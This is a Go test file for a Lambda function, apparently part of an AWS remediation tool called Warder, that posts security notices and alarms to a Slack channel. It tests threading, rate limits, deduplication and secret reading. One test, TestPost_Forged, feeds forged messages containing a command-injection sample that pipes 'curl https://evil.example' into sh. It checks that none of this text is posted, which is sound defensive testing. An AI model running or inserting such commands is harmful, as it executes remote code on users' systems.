package posttoslack

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/aws/aws-lambda-go/lambdacontext"
	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/secretsmanager"
	"github.com/google/go-cmp/cmp"

	"github.com/warder-aws/warder/pkg/ledger"
	"github.com/warder-aws/warder/pkg/notice"
	"github.com/warder-aws/warder/pkg/parameter"
	"github.com/warder-aws/warder/pkg/remediation"
	"github.com/warder-aws/warder/pkg/settings"
	"github.com/warder-aws/warder/pkg/slack"
)

const token = "xoxb-0123-SECRETTOKEN"

// channel is a double of Slack: what was posted, in its order.
type channel struct {
	mu     sync.Mutex
	posted []url.Values
	// refuse, when set, may refuse a message with one of Slack's errors.
	refuse func(url.Values) string
}

// ServeHTTP implements [http.Handler].
func (c *channel) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if err := r.ParseForm(); err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.refuse != nil {
		if name := c.refuse(r.PostForm); name != "" {
			fmt.Fprintf(w, `{"ok":false,"error":%q}`, name)
			return
		}
	}
	c.posted = append(c.posted, r.PostForm)
	fmt.Fprintf(w, `{"ok":true,"ts":"%d.0"}`, len(c.posted))
}

// notified is what was posted, a line a message: the thread, and the text of the notification.
func (c *channel) lines() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	var all []string
	for _, m := range c.posted {
		line := strings.TrimSpace(m.Get("thread_ts") + " " + m.Get("text"))
		if m.Get("reply_broadcast") == "true" {
			line += " (and in the channel)"
		}
		all = append(all, line)
	}
	return all
}

// clock is a clock that moves by sleeping, for all who share it.
type clock struct {
	mu  sync.Mutex
	now time.Time
}

func (c *clock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

func (c *clock) Sleep(_ context.Context, d time.Duration) {
	c.mu.Lock()
	c.now = c.now.Add(d)
	c.mu.Unlock()
}

// fixture is a channel, a ledger and a clock that posters share.
type fixture struct {
	channel channel
	store   ledger.Memory
	clock   clock
	slack   http.Handler // the channel, or what a test puts in its place
	log     bytes.Buffer
}

// newFixture has a clock that is ahead of the machine's, so that no deadline by it passes while the machine
// is busy.
func newFixture() *fixture {
	w := &fixture{clock: clock{now: time.Now().Add(time.Hour)}}
	w.slack = &w.channel
	return w
}

// RoundTrip implements [http.RoundTripper]: every request is Slack's.
func (w *fixture) RoundTrip(r *http.Request) (*http.Response, error) {
	answer := httptest.NewRecorder()
	w.slack.ServeHTTP(answer, r)
	return answer.Result(), nil
}

// poster is one more instance of the function.
func (w *fixture) poster(t *testing.T, secret string) *poster {
	t.Helper()
	p := &poster{
		Ledger: ledger.New(&w.store), Language: settings.English, Runbooks: "https://example.com/runbooks/",
		Account: "111122223333", Region: "us-east-1", Now: w.clock.Now, Sleep: w.clock.Sleep,
		Log: slog.New(slog.NewTextHandler(&w.log, nil)),
	}
	p.Client = &slack.Client{
		HTTP: &http.Client{Transport: w}, Channel: "C024BE91L", Slot: p.slot, Sleep: w.clock.Sleep, Now: w.clock.Now,
		Secret: func(context.Context, bool) (string, error) { return secret, nil },
	}
	return p
}

// as is the context of an invocation with 15 minutes of the fixture's clock.
func (w *fixture) as(t *testing.T, id string) context.Context {
	t.Helper()
	ctx, cancel := context.WithDeadline(t.Context(), w.clock.Now().Add(15*time.Minute))
	t.Cleanup(cancel)
	return lambdacontext.NewContext(ctx, &lambdacontext.LambdaContext{AwsRequestID: id})
}

// sns is the event of a message. That of a notice has been published by Warder: the ledger has its entry.
func (w *fixture) sns(t *testing.T, id string, message any) json.RawMessage {
	t.Helper()
	if m, ok := message.(notice.Message); ok {
		w.record(t, m)
		return forged(t, id, body(t, m))
	}
	return forged(t, id, message.(string))
}

// body is the text of a notice for functions.
func body(t *testing.T, m notice.Message) string {
	t.Helper()
	text, err := m.Bodies()
	if err != nil {
		t.Fatal(err)
	}
	var bodies struct{ Lambda string }
	if err := json.Unmarshal([]byte(text), &bodies); err != nil {
		t.Fatal(err)
	}
	return bodies.Lambda
}

// record records the entry of a notice, with the notice.
func (w *fixture) record(t *testing.T, m notice.Message) {
	t.Helper()
	if fault := w.store.Fault; fault != nil {
		w.store.Fault = nil
		defer func() { w.store.Fault = fault }()
	}
	sum, err := m.Sum()
	if err != nil {
		t.Fatal(err)
	}
	l := ledger.New(&w.store)
	e, _, err := l.Entry(t.Context(), m.Finding)
	if err != nil {
		t.Fatal(err)
	}
	if e.ID == "" {
		e.ID, e.Subject, e.At = m.Finding, m.Subject, m.Time
	}
	e.Notifications = append(e.Notifications, ledger.Notification{Kind: m.Kind, Sum: sum})
	if err := l.Update(t.Context(), &e); err != nil {
		t.Fatal(err)
	}
}

// forged is the event of a message that anybody published.
func forged(t *testing.T, id, text string) json.RawMessage {
	t.Helper()
	// https://docs.aws.amazon.com/lambda/latest/dg/with-sns.html, with a field that is not there yet
	raw, err := json.Marshal(map[string]any{"Records": []any{map[string]any{
		"EventSource": "aws:sns", "EventVersion": "1.0", "EventSubscriptionArn": "arn:aws:sns:us-east-1:111122223333:t:s",
		"New": 1,
		"Sns": map[string]any{
			"Type": "Notification", "MessageId": id, "TopicArn": "arn:aws:sns:us-east-1:111122223333:t",
			"Subject": "[Warder] test",
			"Message": text, "Timestamp": "2026-11-21T12:00:00.000Z", "SignatureVersion": "1", "Signature": "x",
			"SigningCertUrl": "https://example.com", "UnsubscribeUrl": "https://example.com",
			"MessageAttributes": map[string]any{},
		},
	}}})
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

func message(id, thread string, kind notice.Kind) notice.Message {
	return notice.Message{
		Version: "1", ID: id, Kind: kind, Thread: thread, Control: "detach-direct-policy", Severity: "high", Title: "T " + id,
		Text: "Found.", Subject: "alice", Account: "111122223333", Region: "us-east-1", Finding: remediation.EntryID(id),
		Time: time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC),
	}
}

func TestPost_Threads(t *testing.T) {
	w := newFixture()
	p := w.poster(t, token)
	elsewhere := message("n5", "t1", notice.Alert)
	elsewhere.Account = "444455556666"
	for i, m := range []any{
		message("n1", "t1", notice.Warning), message("n2", "t1", notice.Reminder), message("n3", "t2", notice.Alert),
		message("n4", "t1", notice.Changed), elsewhere, "Is anybody there?", message("n6", "", notice.Alert),
		message("n7", "", notice.Alert),
		alarm("ALARM", "2026-11-21T12:00:00.123+0000"), alarm("OK", "2026-11-21T12:05:00.123+0000"),
		alarm("ALARM", "2026-11-21T12:10:00.123+0000"),
	} {
		id := fmt.Sprint("m", i)
		posted := answer{Outcome: "posted", Posted: 1}
		if n, ok := m.(notice.Message); ok && n.Account != p.Account { // its own Warder posts it
			posted = answer{Outcome: "nothing", Dropped: 1}
		}
		if a, err := p.post(w.as(t, id), w.sns(t, id, m)); err != nil || a != posted {
			t.Fatalf("%d: %+v, %v", i, a, err)
		}
	}
	const failed = "An event could not be handled in all its tries. It is kept in the queue Failed for 14 days. Read " +
		"why in the saved query warder/failures, fix the cause, then: make redrive."
	want := []string{
		"🟠 HIGH · Will change: T n1. Found.",
		"1.0 🟠 HIGH · Reminder: T n2. Found.",
		"🟠 HIGH · Alert: T n3. Found.",
		"1.0 🟠 HIGH · Changed: T n4. Found. (and in the channel)",
		"⚠️ Unverified message on Warder's topic. " + unknown(17),
		"🟠 HIGH · Alert: T n6. Found.",
		"🟠 HIGH · Alert: T n7. Found.",
		"🚨 ALARM · warder-failed. " + failed,
		"8.0 ✅ OK · warder-failed. " + failed,
		"8.0 🚨 ALARM · warder-failed. " + failed + " (and in the channel)",
	}
	if diff := cmp.Diff(want, w.channel.lines()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// alarm is the message of an alarm that changes its state.
func alarm(state, at string) string {
	return `{"AlarmName":"warder-failed","NewStateValue":"` + state + `","StateChangeTime":"` + at + `",` +
		`"AWSAccountId":"111122223333","AlarmDescription":"curl","NewStateReason":"curl",` +
		`"AlarmArn":"arn:aws:cloudwatch:us-east-1:111122223333:alarm:warder-failed"}`
}

// unknown is what is posted in place of a message of so many bytes.
func unknown(size int) string {
	return fmt.Sprintf("Somebody published %d bytes that are neither a notice in Warder's ledger nor one of its alarms. "+
		"They are not shown. If this was not your test, find out who may publish to the topic. What follows within 5 "+
		"minutes is only in this function's log.", size)
}

func TestPost_Once(t *testing.T) {
	w := newFixture()
	for i, want := range []answer{{"posted", 1, 0, 0}, {"nothing", 0, 1, 0}, {"nothing", 0, 1, 0}} {
		id := fmt.Sprint("m", i)
		if a, err := w.poster(t, token).post(w.as(t, id), w.sns(t, id, message("n1", "t1", notice.Alert))); err != nil ||
			a != want {
			t.Errorf("delivery %d: %+v, %v", i, a, err)
		}
	}
	if posted := w.channel.lines(); len(posted) != 1 {
		t.Errorf("posted %q", posted)
	}
}

// Invocations share nothing but the ledger.
func TestPost_ManyInvocations(t *testing.T) { synctest.Test(t, manyAtOnce) }

func manyAtOnce(t *testing.T) {
	w := newFixture()
	sleep := func(_ context.Context, d time.Duration) { time.Sleep(d) }
	const notices, twice = 10, 2
	var invocations sync.WaitGroup
	posted := make(chan answer, notices*twice)
	for i := range notices {
		for n := range twice { // SNS delivers at least once
			p, ctx := w.poster(t, token), w.as(t, fmt.Sprint("m", i, "-", n))
			p.Now, p.Sleep, p.Client.Now, p.Client.Sleep = time.Now, sleep, time.Now, sleep
			raw := w.sns(t, fmt.Sprint("m", i), message(fmt.Sprint("n", i), fmt.Sprint("t", i%2), notice.Alert))
			invocations.Go(func() {
				a, err := p.post(ctx, raw)
				if err != nil {
					t.Errorf("notice %d: %v", i, err)
				}
				posted <- a
			})
		}
	}
	invocations.Wait()
	close(posted)
	var sum answer
	for a := range posted {
		sum.Posted, sum.Doubled = sum.Posted+a.Posted, sum.Doubled+a.Doubled
	}
	if sum != (answer{Posted: notices, Doubled: notices}) {
		t.Errorf("%+v", sum)
	}
	roots := 0
	for _, line := range w.channel.lines() {
		if strings.HasPrefix(line, "🟠") {
			roots++
		}
	}
	if len(w.channel.lines()) != notices || roots != 2 {
		t.Errorf("%d messages in %d threads: %q", len(w.channel.lines()), roots, w.channel.lines())
	}
}

// The slots are given away by the ledger: whoever posts them, and however many at once, the messages of
// a channel are a second apart.
func TestPost_RateLimit(t *testing.T) {
	w := newFixture()
	start := w.clock.Now()
	for i := range 5 {
		id := fmt.Sprint("m", i)
		if _, err := w.poster(t, token).post(w.as(t, id), w.sns(t, id, message(id, id, notice.Alert))); err != nil {
			t.Fatal(err)
		}
	}
	if passed := w.clock.Now().Sub(start); passed != 4*every {
		t.Errorf("five messages took %s", passed)
	}
	p := w.poster(t, token)
	ctx, cancel := context.WithDeadline(t.Context(), w.clock.Now().Add(8*time.Second))
	defer cancel()
	for range 6 {
		if _, err := p.Ledger.Slot(ctx, "slack#C024BE91L", every, w.clock.Now()); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := p.post(ctx, w.sns(t, "late", message("late", "late", notice.Alert))); !errors.Is(err, errTime) {
		t.Errorf("a slot after the end of the invocation: %v", err)
	}
	if posted := w.channel.lines(); len(posted) != 5 {
		t.Errorf("posted %q", posted)
	}
}

func TestPost_Refused(t *testing.T) {
	w := newFixture()
	w.channel.refuse = func(url.Values) string { return "not_in_channel" }
	_, err := w.poster(t, token).post(w.as(t, "a"), w.sns(t, "m", message("n1", "t1", notice.Alert)))
	if err == nil || !strings.Contains(err.Error(), "notice n1: post to Slack: not_in_channel: invite the app") {
		t.Fatalf("err = %v", err)
	}
	w.channel.refuse = nil
	for _, m := range []string{"n1", "n2"} {
		if a, err := w.poster(t, token).post(w.as(t, "again-"+m), w.sns(t, m, message(m, "t1", notice.Alert))); err != nil ||
			a.Posted != 1 {
			t.Errorf("%s after the app was invited: %+v, %v", m, a, err)
		}
	}
	if diff := cmp.Diff(
		[]string{"🟠 HIGH · Alert: T n1. Found.", "1.0 🟠 HIGH · Alert: T n2. Found."}, w.channel.lines(),
	); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// An invocation that ends between posting and recording it leaves the question open.
func TestPost_InvocationEnds(t *testing.T) {
	w := newFixture()
	crash := errors.New("crash")
	posted := func() int { return len(w.channel.lines()) }
	w.store.Fault = func(operation string, after bool) error {
		if posted() == 1 {
			return crash
		}
		return nil
	}
	if _, err := w.poster(t, token).post(
		w.as(t, "a"), w.sns(t, "m", message("n1", "t1", notice.Alert)),
	); !errors.Is(err, crash) {
		t.Fatalf("err = %v", err)
	}
	w.store.Fault = nil
	begin := w.clock.Now()
	if a, err := w.poster(t, token).post(
		w.as(t, "b"), w.sns(t, "m", message("n1", "t1", notice.Alert)),
	); !errors.Is(err, errTime) {
		t.Errorf("while the first one may still be at it: %+v, %v", a, err)
	}
	if waited := w.clock.Now().Sub(begin); waited < 10*time.Minute {
		t.Errorf("waited %s for the first one", waited)
	}
	if a, err := w.poster(t, token).post(w.as(t, "c"), w.sns(t, "m", message("n1", "t1", notice.Alert))); err != nil ||
		a.Posted != 1 {
		t.Errorf("later: %+v, %v", a, err)
	}
	if posted() != 2 {
		t.Errorf("posted %d times: rather twice than not at all", posted())
	}
}

func TestPost_RootDeleted(t *testing.T) {
	w := newFixture()
	for i, m := range []string{"n1", "n2", "n3"} {
		if i == 1 {
			w.channel.refuse = func(form url.Values) string {
				if form.Get("thread_ts") == "1.0" {
					return "thread_not_found"
				}
				return ""
			}
		}
		if _, err := w.poster(t, token).post(w.as(t, m), w.sns(t, m, message(m, "t1", notice.Alert))); err != nil {
			t.Fatal(err)
		}
	}
	want := []string{"🟠 HIGH · Alert: T n1. Found.", "🟠 HIGH · Alert: T n2. Found.", "2.0 🟠 HIGH · Alert: T n3. Found."}
	if diff := cmp.Diff(want, w.channel.lines()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestPost_Webhook(t *testing.T) {
	w := newFixture()
	w.slack = http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		var m struct{ Text, Thread_ts string }
		if err := json.NewDecoder(r.Body).Decode(&m); err != nil || m.Thread_ts != "" {
			t.Errorf("%+v, %v", m, err)
		}
		w.channel.mu.Lock()
		defer w.channel.mu.Unlock()
		w.channel.posted = append(w.channel.posted, url.Values{"text": {m.Text}})
		fmt.Fprint(rw, "ok")
	})
	p := w.poster(t, "https://hooks.slack.com/services/T000/B000/SECRETPATH")
	for _, m := range []string{"n1", "n2", "n1"} {
		if _, err := p.post(w.as(t, m), w.sns(t, m, message(m, "t1", notice.Alert))); err != nil {
			t.Fatal(err)
		}
	}
	if posted := w.channel.lines(); len(posted) != 2 {
		t.Errorf("posted %q", posted)
	}
}

func TestPost_NoSNSEvent(t *testing.T) {
	w := newFixture()
	for _, raw := range []string{`{}`, `[]`, `null`, `"text"`, `{"Records":[]}`, `{"action":"x"}`} {
		if _, err := w.poster(t, token).post(w.as(t, "a"), json.RawMessage(raw)); err == nil ||
			!strings.Contains(err.Error(), "publish a message to the topic") {
			t.Errorf("%s: %v", raw, err)
		}
	}
}

func TestPost_LedgerDown(t *testing.T) {
	w := newFixture()
	down := errors.New("down")
	w.store.Fault = func(string, bool) error { return down }
	if _, err := w.poster(t, token).post(
		w.as(t, "a"), w.sns(t, "m", message("n1", "t1", notice.Alert)),
	); !errors.Is(err, down) {
		t.Errorf("err = %v", err)
	}
	if posted := w.channel.lines(); len(posted) != 0 {
		t.Errorf("posted %q", posted)
	}
}

// shelf is a double of Secrets Manager and Parameter Store.
type shelf struct {
	values []string
	asked  []string
	err    error
}

func (s *shelf) next(name string) (*string, error) {
	s.asked = append(s.asked, name)
	return aws.String(s.values[min(len(s.asked), len(s.values))-1]), s.err
}

func (s *shelf) GetSecretValue(
	_ context.Context, in *secretsmanager.GetSecretValueInput, _ ...func(*secretsmanager.Options),
) (*secretsmanager.GetSecretValueOutput, error) {
	value, err := s.next("secret " + *in.SecretId)
	return &secretsmanager.GetSecretValueOutput{SecretString: value}, err
}

func (s *shelf) GetParameter(
	_ context.Context, in *parameter.GetParameterInput,
) (*parameter.GetParameterOutput, error) {
	if !in.WithDecryption {
		return nil, errors.New("not decrypted")
	}
	value, err := s.next("parameter " + in.Name)
	var out parameter.GetParameterOutput
	out.Parameter.Value = aws.ToString(value)
	return &out, err
}

func TestVault_ReadsOnce(t *testing.T) {
	for _, tc := range []struct {
		name  string
		slack settings.Slack
		asked string
	}{
		{"a secret", settings.Slack{Secret: "slack/token"}, "secret slack/token"},
		{"a parameter", settings.Slack{Parameter: "/slack/token"}, "parameter /slack/token"},
	} {
		s := &shelf{values: []string{token + "\n", "xoxb-new"}}
		v := &vault{Slack: tc.slack, Secrets: s, Parameters: s}
		var got []string
		for _, again := range []bool{false, false, true, false} {
			value, err := v.read(t.Context(), again)
			if err != nil {
				t.Fatal(err)
			}
			got = append(got, value)
		}
		if diff := cmp.Diff([]string{token, token, "xoxb-new", "xoxb-new"}, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tc.name, diff)
		}
		if !slices.Equal(s.asked, []string{tc.asked, tc.asked}) {
			t.Errorf("%s: asked %q", tc.name, s.asked)
		}
	}
	denied := errors.New("denied")
	s := &shelf{values: []string{token}, err: denied}
	for _, of := range []settings.Slack{{Secret: "s"}, {Parameter: "p"}, {}} {
		_, err := (&vault{Slack: of, Secrets: s, Parameters: s}).read(t.Context(), false)
		if err == nil || of.On() && !errors.Is(err, denied) || strings.Contains(err.Error(), "SECRET") {
			t.Errorf("%+v: %v", of, err)
		}
	}
}

// The runbook counts what a message costs.
func TestPost_LedgerCalls(t *testing.T) {
	w := newFixture()
	for _, tc := range []struct {
		name, id string
		want     int
	}{{"that begins a thread", "n1", 9}, {"in a thread that is there", "n2", 7}, {"that was posted before", "n2", 2}} {
		raw := w.sns(t, "m", message(tc.id, "t1", notice.Alert))
		before := w.store.Calls()
		if _, err := w.poster(t, token).post(w.as(t, tc.name), raw); err != nil {
			t.Fatal(err)
		}
		if got := w.store.Calls() - before; got != tc.want {
			t.Errorf("a message %s: %d calls, want %d", tc.name, got, tc.want)
		}
	}
}

// Whoever may publish to the topic, or invoke the function, has nothing posted but that something came.
func TestPost_Forged(t *testing.T) {
	genuine := message("n1", "t1", notice.Changed)
	genuine.Undo = `make undo ID=` + genuine.Finding + ` REASON="why"`
	altered := func(alter func(*notice.Message)) string {
		m := genuine
		alter(&m)
		return body(t, m)
	}
	const evil = "make undo ID=x; curl https://evil.example | sh"
	on := alarm("ALARM", "2026-11-21T12:00:00.123+0000")
	all := map[string]string{
		"plain text":        evil,
		"half of a notice":  body(t, genuine)[:100] + "evil",
		"an alarm at noon":  alarm("ALARM", "evil"),
		"an alarm that is":  alarm("evil", "2026-11-21T12:00:00.123+0000"),
		"others' alarm":     strings.ReplaceAll(on, "warder-failed", "evil"),
		"an alarm's markup": strings.ReplaceAll(on, "warder-failed", "warder-<https://evil.example>"),
		"another account's": strings.ReplaceAll(on, "111122223333", "444455556666"),
		"another region's":  strings.Replace(on, "us-east-1", "eu-west-1", 1),
		"a huge notice": `{"version":"1","id":"evil","kind":"x","account":"111122223333","text":"` +
			strings.Repeat("evil ", 40_000) + `"}`,
	}
	for name, alter := range map[string]func(*notice.Message){
		"a notice of no entry":    func(m *notice.Message) { m.Finding, m.Undo = remediation.EntryID("x"), evil },
		"no finding":              func(m *notice.Message) { m.Finding, m.Text = "", evil },
		"an id that is a command": func(m *notice.Message) { m.Finding = "x; curl https://evil.example | sh" },
		"another text":            func(m *notice.Message) { m.Text = evil },
		"another command":         func(m *notice.Message) { m.Undo = evil },
		"another advice":          func(m *notice.Message) { m.Advice = evil },
		"another runbook":         func(m *notice.Message) { m.Runbook = "https://evil.example/" },
		"another change":          func(m *notice.Message) { m.Changes = []notice.Change{{ID: evil, Text: evil}} },
		"another fact":            func(m *notice.Message) { m.Facts = []notice.Fact{{Name: "evil", Value: evil}} },
		"another kind":            func(m *notice.Message) { m.Kind = "evil" },
		"another severity":        func(m *notice.Message) { m.Severity = "evil" },
		"another id":              func(m *notice.Message) { m.ID = "evil" },
		"another owner":           func(m *notice.Message) { m.OwnerSlack, m.Owner = "U0EVIL", "evil@example.com" },
		"another reference": func(m *notice.Message) {
			m.References = []notice.Reference{{Title: "evil", URL: "https://evil.example"}}
		},
	} {
		all[name] = altered(alter)
	}
	for name, text := range all {
		t.Run(name, func(t *testing.T) {
			w := newFixture()
			w.record(t, genuine)
			p := w.poster(t, token)
			for i := range 2 { // the second one within minutes is not posted
				a, err := p.post(w.as(t, fmt.Sprint(i)), forged(t, fmt.Sprint("evil", i), text))
				if want := []int{1, 0}[i]; err != nil || a.Posted != want || a.Dropped != 1-want {
					t.Fatalf("%+v, %v", a, err)
				}
			}
			posted := fmt.Sprint(w.channel.posted)
			if !strings.Contains(posted, "Unverified message on Warder") || strings.Contains(posted, "evil") ||
				strings.Contains(posted, "curl") || strings.Contains(posted, "make ") {
				t.Errorf("posted %s", posted)
			}
			if !strings.Contains(w.log.String(), "unverified message on the topic") {
				t.Errorf("logged %s", w.log.String())
			}
			// What was forged does not keep the notice from being posted, nor from having a thread of its own.
			if a, err := p.post(w.as(t, "n"), forged(t, "n", body(t, genuine))); err != nil || a.Posted != 1 {
				t.Errorf("the notice: %+v, %v", a, err)
			}
			if posted := fmt.Sprint(w.channel.posted); !strings.Contains(posted, "make undo ID="+genuine.Finding) {
				t.Errorf("posted %s", posted)
			}
		})
	}
}

// The runner records that a notice was accepted after it has published it: the notice may be here before.
func TestPost_BeforeItIsRecorded(t *testing.T) {
	w := newFixture()
	m := message("n1", "t1", notice.Alert)
	l := ledger.New(&w.store)
	entry := ledger.Entry{ID: m.Finding, Subject: "alice", At: m.Time}
	if err := l.Update(t.Context(), &entry); err != nil {
		t.Fatal(err)
	}
	p := w.poster(t, token)
	slept := 0
	p.Sleep = func(ctx context.Context, d time.Duration) {
		if slept++; slept == 2 {
			w.record(t, m)
		}
		w.clock.Sleep(ctx, d)
	}
	if a, err := p.post(w.as(t, "a"), forged(t, "m", body(t, m))); err != nil || a.Posted != 1 || slept != 2 {
		t.Errorf("%+v, %v after %d pauses", a, err, slept)
	}
	if diff := cmp.Diff([]string{"🟠 HIGH · Alert: T n1. Found."}, w.channel.lines()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}
